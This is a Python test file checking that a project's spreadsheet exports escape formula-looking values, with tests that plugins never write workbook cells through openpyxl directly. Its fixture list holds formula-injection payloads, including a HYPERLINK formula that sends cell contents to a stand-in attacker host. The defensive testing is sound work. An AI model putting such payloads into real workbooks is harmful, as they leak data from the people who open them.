"""Safe spreadsheets (issue 25, acceptance 4): one core helper writes every workbook cell.

Every workbook a first-party plugin produces is built with ``core.api.Spreadsheet``; the
plugins' own tests render each one with a formula-looking value in it (the mediation ledger
and subsidy sheet, the legal-aid subsidy ledger, the publicity report) and the core's exports
are checked in ``tests/exports``.
"""

from __future__ import annotations

import re
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from core.spreadsheets import Spreadsheet, safe_cell

ROOT = Path(__file__).resolve().parents[1]
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A2,"点击")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def plugin_sources() -> list[Path]:
    files = [*ROOT.glob("plugins/*/*/**/*.py"), *ROOT.glob("examples/*/*/**/*.py")]
    return [
        f for f in files if "/tests/" not in f.as_posix() and "/migrations/" not in f.as_posix()
    ]


def test_no_plugin_writes_workbook_cells_itself() -> None:
    offenders = [
        str(f.relative_to(ROOT))
        for f in plugin_sources()
        if re.search(r"^\s*(from|import) openpyxl", f.read_text(encoding="utf-8"), re.M)
    ]
    assert len(plugin_sources()) > 50
    assert offenders == [], "build workbooks with core.api.Spreadsheet, not openpyxl"


@pytest.mark.parametrize("write_only", [False, True])
def test_a_formula_looking_value_is_written_as_text_and_numbers_stay_numbers(
    write_only: bool,
) -> None:
    book = Spreadsheet(write_only=write_only)
    sheet = book.sheet("表")
    sheet.row(["标题"], bold=True)
    for value in FORMULAS:
        sheet.row([value, 12, 3.5, "张三"])
    ws = load_workbook(BytesIO(book.to_bytes()))["表"]
    assert ws["A1"].font.bold
    for n, value in enumerate(FORMULAS, start=2):
        cell = ws.cell(row=n, column=1)
        assert cell.data_type == "s" and cell.value.startswith("'")  # text: Excel runs nothing
        assert cell.value[1:].strip() == value.strip()
        assert ws.cell(row=n, column=2).value == 12 and ws.cell(row=n, column=2).data_type == "n"
        assert ws.cell(row=n, column=4).value == "张三"


def test_safe_cell_leaves_ordinary_values_alone() -> None:
    assert safe_cell("张三") == "张三" and safe_cell(-5) == -5 and safe_cell(None) is None
